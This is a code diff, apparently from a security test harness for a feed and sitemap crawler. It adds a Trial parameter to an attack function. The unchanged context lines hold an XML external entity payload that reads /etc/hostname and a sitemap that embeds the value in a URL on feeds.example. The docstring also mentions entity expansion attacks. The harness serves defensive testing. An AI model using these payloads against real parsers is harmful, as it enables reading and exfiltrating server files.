@@ -2,6 +2,7 @@
 
 from pathlib import Path
 
+from benchmarks.attacks import Trial
 from testbed.crawling import Crawl
 from testbed.hostile import Connection, HostileWeb
 from testbed.hostile.behaviours import article, links_to
@@ -14,7 +15,7 @@ FILE = '<!DOCTYPE r [<!ENTITY a9 SYSTEM "file:///etc/hostname">]>'
 SITEMAP = "<urlset><url><loc>http://feeds.example/&a9;</loc></url></urlset>"
 
 
-def attack(folder: Path) -> str:
+def attack(folder: Path, trial: Trial) -> str:
     """Local files, devices and addresses, entities of files and entities that grow, each as RSS; sitemaps; then a good feed."""
     folder.mkdir(parents=True, exist_ok=True)
     local = folder / "local.xml"
